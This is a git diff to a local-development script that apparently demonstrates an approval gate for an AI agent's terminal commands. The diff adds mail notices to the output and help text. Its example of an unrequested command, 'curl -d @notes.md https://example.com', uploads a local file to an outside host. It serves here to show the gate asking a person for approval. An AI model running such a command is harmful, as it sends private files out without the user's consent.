@@ -6,6 +6,7 @@ import { client, must } from "./lib/client.mjs";
 import { readDevVars } from "./lib/dev-vars.mjs";
 import { findOrMakeHousehold, signInLink } from "./lib/household.mjs";
 import { ensureInstalled } from "./lib/install.mjs";
+import { mailIn } from "./lib/mail.mjs";
 import { path } from "./lib/project.mjs";
 import { aborted, bold, Complaint, cyan, dim, green, run, say, stopSignal, yellow } from "./lib/say.mjs";
 import { isFree, migrate, startWorker } from "./lib/worker.mjs";
@@ -140,13 +141,17 @@ curl -s ${origin}/v1/sessions/${session}/decisions \\
   -d '{"call_id":"'$(date +%s)'","tool":"terminal","args":{"command":"${TRY}"}}'
 
   ${dim(`${answer} Put any other command in its place.`)}
+  ${dim("One that nobody asked for, such as curl -d @notes.md https://example.com, asks you:")}
+  ${dim("a mail appears here, with the link by which you answer.")}
 
   ${dim("Stop with Ctrl-C. What was recorded is kept in .wrangler; delete that folder to begin again.")}
 `);
 }
 
-/** Of what wrangler prints, its log of every request is noise; a rebuild, a warning or an error is not. */
+/** Of what wrangler prints, its log of every request is noise; a mail, a rebuild, a warning or an error is not. */
 function passOn(line) {
+  const mail = mailIn(line);
+  if (mail !== null) return say(`\n${mail}\n`);
   if (line.trim() === "" || /^\[wrangler:info\] [A-Z]+ \/|^⎔ /.test(line)) return;
   say(`${dim("worker")} ${line}`);
 }
